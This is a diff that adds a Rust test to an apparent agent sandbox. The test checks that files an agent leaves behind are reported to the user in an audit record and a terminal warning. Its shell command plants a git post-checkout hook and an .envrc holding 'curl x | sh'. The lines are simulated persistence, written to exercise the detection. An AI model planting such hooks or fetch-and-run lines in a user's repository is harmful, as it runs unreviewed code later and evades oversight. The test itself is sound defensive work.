@@ -88,3 +88,44 @@ fn git_config_and_hooks_stay_as_the_user_left_them() {
     let ro = &start["detail"]["agent_privileges"]["kernel_interfaces"]["read_only"];
     assert_eq!(ro["pinned"], json!([ws.join(".git")]), "{start}");
 }
+
+/// What read-only binds cannot cover (paths that did not exist): a new hook in a policy
+/// without `read_only`, an `.envrc`. At the end of the session the user is told
+/// (`left_behind` record, a line on the terminal); ordinary edits are not reported.
+#[test]
+fn what_the_agent_leaves_for_later_is_reported() {
+    let dir = Scratch::new("left-behind");
+    let ws = repo(&dir);
+    let policy = write_policy(
+        &dir,
+        json!({"version": 1, "kernel": "best_effort", "sandbox": {"root": ws, "writable": [ws]}}),
+    );
+    let audit = dir.path("audit.jsonl");
+    let out = under_gatewayd(&policy, &audit, "sh")
+        .args([
+            "-c",
+            "echo evil > .git/hooks/post-checkout && echo 'curl x | sh' > .envrc && echo b > f.txt",
+        ])
+        .current_dir(&ws)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("review them") && stderr.contains(".envrc"),
+        "{stderr}"
+    );
+    let rec = records(&audit)
+        .into_iter()
+        .find(|r| r["reason"] == "left_behind")
+        .expect("a left_behind record");
+    let paths = rec["detail"]["paths"].to_string();
+    assert!(
+        paths.contains(".git/hooks") && paths.contains(".envrc"),
+        "{rec}"
+    );
+    assert!(
+        !paths.contains("f.txt"),
+        "ordinary work is not reported: {rec}"
+    );
+}
